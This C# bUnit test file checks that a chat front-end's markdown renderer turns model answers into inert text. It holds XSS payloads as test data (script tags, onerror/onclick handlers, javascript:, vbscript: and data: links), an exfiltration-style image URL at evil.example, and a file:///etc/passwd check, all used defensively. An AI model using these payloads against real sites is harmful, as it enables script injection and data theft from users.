using Bunit;
using Canvas.WebFrontend.Client.Components;
using Canvas.WebFrontend.Client.Markdown;
using Canvas.WebFrontend.Client.Session;

namespace Canvas.Tests.WebFrontend;

/// <summary>Model output rendered in an answer must stay text: no script, no markup, no dangerous links.</summary>
public sealed class SafeMarkdownTests : BunitContext
{
    private IRenderedComponent<MessageItem> RenderAnswer(string markdown) =>
        Render<MessageItem>(parameters => parameters
            .Add(p => p.Message, new MessageView("assistant", markdown))
            .Add(p => p.Actions, NoActions.For()));

    [Fact]
    public void Render_ScriptTag_IsShownAsTextNotElement()
    {
        var answer = RenderAnswer("Hello <script>window.pwned = 1</script> there");

        Assert.Empty(answer.FindAll("script"));
        Assert.Contains("<script>window.pwned = 1</script>", answer.Find("[data-testid=message-text]").TextContent);
    }

    [Fact]
    public void Render_RawHtmlWithEventHandler_CreatesNoElementAndNoHandler()
    {
        var answer = RenderAnswer("<img src=x onerror=\"alert(1)\"> and <div onclick=\"alert(2)\">click</div>");

        Assert.Empty(answer.FindAll("img"));
        Assert.Empty(answer.FindAll("div.markdown div"));
        Assert.DoesNotContain(answer.FindAll("*"), element => element.Attributes.Any(attribute => attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase)));
    }

    [Theory]
    [InlineData("[click me](javascript:alert(1))")]
    [InlineData("[click me](JaVaScRiPt:alert(1))")]
    [InlineData("[click me](&#106;avascript:alert(1))")]
    [InlineData("[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("[click me](vbscript:msgbox)")]
    public void Render_LinkWithDangerousScheme_KeepsTheWordsAndDropsTheLink(string markdown)
    {
        var answer = RenderAnswer(markdown);

        Assert.Empty(answer.FindAll("a"));
        Assert.Contains("click me", answer.Find("[data-testid=message-text]").TextContent);
    }

    [Fact]
    public void Render_AutolinkWithScriptScheme_IsText()
    {
        var answer = RenderAnswer("<javascript:alert(1)>");

        Assert.Empty(answer.FindAll("a"));
    }

    [Fact]
    public void Render_HttpsLink_StaysALinkWithNoReferrer()
    {
        var answer = RenderAnswer("See [the docs](https://example.com/docs).");

        var link = answer.Find("a");
        Assert.Equal("https://example.com/docs", link.GetAttribute("href"));
        Assert.Contains("noopener", link.GetAttribute("rel"));
    }

    [Fact]
    public void Render_Image_BecomesALinkSoNothingLoadsByItself()
    {
        var answer = RenderAnswer("![tracker](https://evil.example/pixel.png?secret=1)");

        Assert.Empty(answer.FindAll("img"));
        Assert.Equal("https://evil.example/pixel.png?secret=1", answer.Find("a").GetAttribute("href"));
    }

    [Fact]
    public void Render_GenericAttributesSyntax_AddsNoAttributes()
    {
        var answer = RenderAnswer("# Title {onclick=\"alert(1)\"}");

        Assert.DoesNotContain(answer.FindAll("*"), element => element.HasAttribute("onclick"));
    }

    [Theory]
    [InlineData("https://example.com", true)]
    [InlineData("http://example.com", true)]
    [InlineData("mailto:someone@example.com", true)]
    [InlineData("javascript:alert(1)", false)]
    [InlineData("/api/conversations", false)]
    [InlineData("file:///etc/passwd", false)]
    [InlineData("", false)]
    public void IsAllowed_Scheme_OnlyWebAndMail(string url, bool allowed)
    {
        Assert.Equal(allowed, SafeMarkdown.IsAllowed(url));
    }
}
